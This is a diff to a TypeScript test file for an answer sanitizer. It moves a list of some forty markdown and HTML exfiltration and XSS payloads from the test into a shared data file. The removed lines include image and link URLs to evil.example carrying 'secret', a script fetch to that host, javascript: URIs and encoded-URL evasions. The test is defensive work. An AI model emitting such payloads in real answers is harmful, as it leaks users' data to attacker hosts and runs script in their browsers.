@@ -4,6 +4,7 @@ import { fromMarkdown } from 'mdast-util-from-markdown';
 import { gfmFromMarkdown } from 'mdast-util-gfm';
 import { gfm } from 'micromark-extension-gfm';
 import { describe, expect, test } from 'vitest';
+import { linesOf } from '../../test/attacks/lines.ts';
 import { verifyCitations } from './citations.ts';
 import { sanitizeAnswer } from './sanitize.ts';
 
@@ -25,48 +26,7 @@ function activeNodes(markdown: string): string[] {
   return found;
 }
 
-const PAYLOADS = [
-  '![chart](https://evil.example/p?d=secret)',
-  '![](//evil.example/p)',
-  '![a](<https://evil.example/a b>)',
-  '![a][ref]\n\n[ref]: https://evil.example/p',
-  '[ref]\n\n[ref]: <https://evil.example/p> "title"',
-  '[click here](https://evil.example/login)',
-  '[click [here]](https://evil.example/)',
-  '[![alt](https://evil.example/i.png)](https://evil.example/)',
-  '[a](javascript:alert(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD4=)',
-  '[a](https://evil.example/(x)(y) "a title")',
-  '[two\nlines](\nhttps://evil.example\n)',
-  '<https://evil.example/>',
-  '<javascript:alert(1)>',
-  'see https://evil.example/?q=secret for more',
-  'see WWW.evil.example/x',
-  'HTTPS://evil.example',
-  'http&#58;//evil.example',
-  'http&colon;//evil.example',
-  'http:\\/\\/evil.example',
-  'www\\.evil.example',
-  '<img src="https://evil.example/p">',
-  '<img\nsrc=//evil.example/p>',
-  '<a href=//evil.example>x</a>',
-  '<script>fetch("//evil.example")</script>',
-  '<svg/onload=alert(1)>',
-  '<<b>img src=x onerror=alert(1)>',
-  'ht<b></b>tps://evil.example',
-  'ht[tps://evil.example](x)',
-  '<!-- comment --> <?php ?> <![CDATA[x]]>',
-  '[^1]\n\n[^1]: https://evil.example',
-  '[1](https://evil.example)',
-  '[a][7](https://evil.example)',
-  'h[7]ttps://evil.example',
-  'http\\![](x)://evil.example',
-  'http&![](x)#58;//evil.example',
-  '!\\[a](https://evil.example)',
-  '|a|\n|-|\n|![x](https://evil.example)|',
-  '> - ![x](https://evil.example)',
-  '# [x](https://evil.example)',
-];
+const PAYLOADS = linesOf<{ text: string }>('exfiltrations').map(({ text }) => text);
 
 describe('of each payload nothing active is left', () => {
   test.each(PAYLOADS)('%s', (payload) => {
